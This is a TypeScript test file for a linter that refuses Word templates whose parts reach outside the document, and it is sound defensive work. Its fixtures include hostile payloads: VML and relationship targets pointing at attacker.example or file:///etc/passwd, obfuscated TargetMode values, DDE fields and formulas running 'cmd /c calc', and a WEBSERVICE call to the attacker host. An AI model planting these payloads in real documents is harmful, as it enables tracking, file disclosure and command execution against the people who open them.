import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { strFromU8, strToU8, type Zippable, zipSync } from 'fflate';
import {
  addRelation,
  type Files,
  fieldOf,
  own,
  templateOf,
  types,
} from '../../../../test/support/reports/report-templates.ts';
import { lintTemplate } from './lint.ts';

type Change = (files: Files) => void;

const replaced =
  (name: string, from: string, to: string): Change =>
  (files) => {
    const text = strFromU8(files[name] as Uint8Array);
    assert.ok(text.includes(from), `${name} has no ${from}`);
    files[name] = strToU8(text.replace(from, () => to));
  };
const written =
  (name: string, content: string | Uint8Array): Change =>
  (files) => {
    files[name] = typeof content === 'string' ? strToU8(content) : content;
  };

const head = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';
const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const packages = 'http://schemas.openxmlformats.org/package/2006';
const relationships = (xml: string) =>
  `${head}<Relationships xmlns="${packages}/relationships">${xml}</Relationships>`;
/** The workbook of a chart as written by Word. */
const workbook: Readonly<Record<string, string>> = {
  '[Content_Types].xml': `${head}<Types xmlns="${packages}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/></Types>`,
  '_rels/.rels': relationships(
    `<Relationship Id="rId1" Type="${types}/officeDocument" Target="xl/workbook.xml"/>`,
  ),
  'xl/workbook.xml': `${head}<workbook xmlns="${main}"><sheets/></workbook>`,
  'xl/_rels/workbook.xml.rels': relationships(
    `<Relationship Id="rId1" Type="${types}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="${types}/sharedStrings" Target="/xl/sharedStrings.xml" TargetMode="Internal"/>`,
  ),
  'xl/worksheets/sheet1.xml': `${head}<worksheet xmlns="${main}"><sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData></worksheet>`,
  'xl/sharedStrings.xml': `${head}<sst xmlns="${main}"><si><t>https://example.org | [1]</t></si></sst>`,
};

/** Adds the workbook of a chart, changed. */
const inWorkbook =
  (...changes: Change[]): Change =>
  (files) => {
    const inside: Files = Object.fromEntries(
      Object.entries(workbook).map(([name, text]) => [name, strToU8(text)]),
    );
    for (const change of changes) change(inside);
    files['word/embeddings/Sheet.xlsx'] = zipSync(inside as Zippable);
  };
const relationOfWorkbook = (attributes: string) =>
  inWorkbook(
    replaced(
      'xl/_rels/workbook.xml.rels',
      '</Relationships>',
      `<Relationship ${attributes}/></Relationships>`,
    ),
  );
const inSheet = (xml: string) =>
  inWorkbook(replaced('xl/worksheets/sheet1.xml', '</worksheet>', `${xml}</worksheet>`));
const formula = (text: string) => inSheet(`<x><c r="Z9"><f>${text}</f></c></x>`);

const outside = 'https://attacker.example/x';
const vml = (xml: string) =>
  `<w:p><w:r><w:pict xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">${xml}</w:pict></w:r></w:p>`;
const picture = (target: string, mode: string) => `Id="h1" Type="${types}/image" ${target} ${mode}`;
const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le');

/** References to something outside the document, in every notation. */
const hostile: Record<string, [body: string, change?: Change]> = {
  'a picture of VML by its address': [vml(`<v:shape><v:imagedata src="${outside}"/></v:shape>`)],
  'the same with references to characters': [
    vml('<v:shape><v:imagedata src="&#104;ttps&#x0000000003A;//attacker.example/x"/></v:shape>'),
  ],
  'the same in single quotes and another case': [vml(`<v:shape><v:imagedata SRC='${outside}'/></v:shape>`)],
  'the same with a prefix': [vml(`<v:shape><v:imagedata o:src="${outside}"/></v:shape>`)],
  'the same from another computer': [
    vml('<v:shape><v:imagedata src="\\\\attacker\\share\\x.png"/></v:shape>'),
  ],
  'the same without a scheme': [vml('<v:shape><v:imagedata src="//attacker.example/x"/></v:shape>')],
  'the same from this computer': [vml('<v:shape><v:imagedata src="/etc/passwd"/></v:shape>')],
  'the same after a blank': [vml(`<v:shape><v:imagedata src=" ${outside}"/></v:shape>`)],
  'the same with a line break in the scheme': [
    vml('<v:shape><v:imagedata src="ht&#10;tps://attacker.example/x"/></v:shape>'),
  ],
  'a shape of VML that leads elsewhere': [vml(`<v:shape href="${outside}"/>`)],
  'a fill of VML': [vml(`<v:shape><v:fill type="frame" src="${outside}"/></v:shape>`)],
  'a fill by its other address': [vml(`<v:shape><v:fill o:althref="${outside}"/></v:shape>`)],
  'a picture with an address beside': [vml(`<v:shape><v:imagedata o:href="file:///c:/x.png"/></v:shape>`)],
  'a relationship whose mode has references with many zeros': [
    '',
    addRelation(picture(`Target="${outside}"`, 'TargetMode="Ext&#x00000000065;rnal"')),
  ],
  'a relationship whose mode is in another case': [
    '',
    addRelation(picture('Target="x.png"', 'TargetMode="EXTERNAL"')),
  ],
  'a relationship whose mode is spelled otherwise': [
    '',
    addRelation(picture(`Target="x.png"`, 'targetmode="External"')),
  ],
  'a relationship whose target begins with a blank': ['', addRelation(picture(`Target=" ${outside}"`, ''))],
  'a relationship whose scheme is in pieces': [
    '',
    addRelation(picture('Target="ht&#x9;tps&#58;//attacker.example"', '')),
  ],
  'a relationship with a prefix': [
    '',
    (files) => {
      const name = 'word/_rels/document.xml.rels';
      const text = strFromU8(files[name] as Uint8Array).replaceAll(
        /<(\/?)Relationship/g,
        '<$1p:Relationship',
      );
      files[name] = strToU8(
        text
          .replace('xmlns=', 'xmlns:p=')
          .replace(
            '</p:Relationships>',
            `<p:Relationship ${picture(`Target="${outside}"`, 'TargetMode="External"')}/></p:Relationships>`,
          ),
      );
    },
  ],
  'a header with a picture of VML': [
    '',
    written('word/header9.xml', `<w:hdr xmlns:w="w" xmlns:v="v"><v:imagedata src="${outside}"/></w:hdr>`),
  ],
  'a style sheet for a part': [
    '',
    written('word/header9.xml', `<?xml version="1.0"?><?xml-stylesheet href="${outside}"?><a/>`),
  ],
  'custom XML with a style sheet': [
    '',
    written('customXml/item1.xml', `<?xml-stylesheet type="text/xsl" href="${outside}"?><a/>`),
  ],
  'custom XML with an entity': ['', written('customXml/item1.xml', '<!DOCTYPE a SYSTEM "x.dtd"><a/>')],
  'custom XML with a picture by its address': [
    '',
    written('customXml/item1.xml', `<a><img src="${outside}"/></a>`),
  ],
  'a part in UTF-16': ['', written('word/header9.xml', utf16('<a/>'))],
  'a part that says that it is in UTF-7': [
    '',
    written('word/header9.xml', '<?xml version="1.0" encoding="UTF-7"?><a/>'),
  ],
  'a chunk of another document': [`<w:altChunk r:id="rId1"/>`],
  'a chunk with another prefix': [`<q:altChunk xmlns:q="w" r:id="rId1"/>`],
  'an attached template': [
    '',
    addRelation(`Id="h1" Type="${types}/attachedTemplate" Target="${outside}" TargetMode="External"`),
  ],
  'a picture of a field': [fieldOf(` INCLUDEPICTURE "${outside}" `)],
  'a picture of a field, disguised': [fieldOf(' INCLUDE&#80;ICTURE ')],
  'a link of OLE in a field': [fieldOf(' LINK Excel.Sheet.12 "c:\\\\x.xlsx" ')],
  'a program that is talked to': [fieldOf(' DDE "cmd" "/c calc" ')],
  'a program that is talked to by itself': [fieldOf(' DDEAUTO cmd ')],
  'a link that loads': [fieldOf(` HYPERLINK "${outside}" `)],
  'an object that is linked': [
    '<w:p><w:r><w:object><o:OLEObject Type="Link" r:id="rId1"/></w:object></w:r></w:p>',
  ],
  'an object of OLE by its relationship': [
    '',
    addRelation(`Id="h1" Type="${types}/oleObject" Target="${outside}" TargetMode="External"`),
  ],
  'a base of all addresses': [
    '',
    written('docProps/app.xml', `<Properties><HyperlinkBase>${outside}/</HyperlinkBase></Properties>`),
  ],
  'a picture that is said to be XML': [
    '',
    replaced(
      '[Content_Types].xml',
      '</Types>',
      '<Default Extension="gif" ContentType="application/xml"/></Types>',
    ),
  ],
  'a workbook with a target outside': [
    '',
    relationOfWorkbook(`Id="h1" Type="${types}/image" Target="${outside}" TargetMode="External"`),
  ],
  'a workbook with a mode in references to characters': [
    '',
    relationOfWorkbook(`Id="h1" Type="${types}/image" Target="${outside}" TargetMode="&#69;xternal"`),
  ],
  'a workbook with a mode in many zeros': [
    '',
    relationOfWorkbook(`Id="h1" Type="${types}/image" Target="a.png" TargetMode="&#x000000000045;xternal"`),
  ],
  'a workbook with a mode in single quotes and blanks': [
    '',
    relationOfWorkbook(`Id="h1" Type="${types}/image" Target="a.png" TargetMode = ' External '`),
  ],
  'a workbook with a target outside and no mode': [
    '',
    relationOfWorkbook(`Id="h1" Type="${types}/image" Target="&#102;ile:///etc/passwd"`),
  ],
  'a workbook with relationships in UTF-16': [
    '',
    inWorkbook(
      written(
        'xl/worksheets/_rels/sheet1.xml.rels',
        utf16(
          `<Relationships><Relationship Id="h1" Target="${outside}" TargetMode="External"/></Relationships>`,
        ),
      ),
    ),
  ],
  'a workbook with a comment in its relationship': [
    '',
    inWorkbook(
      written(
        'xl/worksheets/_rels/sheet1.xml.rels',
        `<Relationships><!-- --><Relationship Id="h1" Type="${types}/image" Target="${outside}" TargetMode="External"/></Relationships>`,
      ),
    ),
  ],
  'a workbook with a drawing of VML': [
    '',
    inWorkbook(written('xl/drawings/vmlDrawing1.vml', `<xml><v:imagedata src="${outside}"/></xml>`)),
  ],
  'a workbook with VML in an XML part': [
    '',
    inWorkbook(
      written('xl/drawings/vmlDrawing1.xml', `<xml><v:imagedata src="&#x68;ttps://attacker.example"/></xml>`),
    ),
  ],
  'a workbook with another one': ['', inWorkbook(written('xl/embeddings/a.xlsx', 'PK'))],
  'a workbook with links to others': [
    '',
    inWorkbook(written('xl/externalLinks/externalLink1.xml', '<externalLink/>')),
  ],
  'a workbook with a link of DDE': ['', inSheet('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>')],
  'a workbook with an object': ['', inSheet('<oleObjects><oleObject link="x" progId="y"/></oleObjects>')],
  'a workbook with a connection': ['', inWorkbook(written('xl/connections.xml', '<connections/>'))],
  'a formula that loads': ['', formula(`WEBSERVICE("${outside}")`)],
  'a formula that loads, disguised': ['', formula('WEB&#83;ERVICE(A1)')],
  'a formula that loads a picture': ['', formula('_xlfn.IMAGE(A1)')],
  'a formula that runs': ['', formula("cmd|'/c calc'!A0")],
  'a formula that talks to a program': ['', formula('RTD("a",,"b")')],
  'a formula of another workbook': ['', formula("'[Book1.xlsx]Sheet1'!A1")],
  'a formula of a linked workbook': ['', formula('[1]Sheet1!A1')],
  'a name for what another workbook holds': [
    '',
    inWorkbook(
      replaced(
        'xl/workbook.xml',
        '</workbook>',
        '<definedNames><definedName name="a">[1]Sheet1!A1</definedName></definedNames></workbook>',
      ),
    ),
  ],
  'a workbook with a declared type': ['', inSheet('<!DOCTYPE a>')],
};

async function faultsOf(template: Buffer): Promise<string[]> {
  const { faults } = await lintTemplate(template);
  return (faults ?? []).map(({ path, message }) => `${path}: ${message}`);
}

describe('a Word template', () => {
  for (const [what, [body, change]] of Object.entries(hostile)) {
    it(`is refused with ${what}`, async () => {
      const template = templateOf(body, change);
      const faults = await faultsOf(template);
      assert.ok(faults.length > 0);
      assert.ok(
        faults.every((fault) => !/^(?:file|tags): /.test(fault)),
        faults.join('\n'),
      );
    });
  }

  it('may hold pictures, shapes and formulas that stay within it', async () => {
    assert.deepEqual(await faultsOf(own), []);
    const shape = vml(
      '<v:shape href="#results" o:href=""><v:formulas><v:f eqn="val 1"/></v:formulas></v:shape>',
    );
    const change = inSheet('<x><c r="Z9"><f>SUM(Table1[Count])+B2*2</f></c></x>');
    assert.deepEqual(await faultsOf(templateOf(shape, change)), []);
  });
});
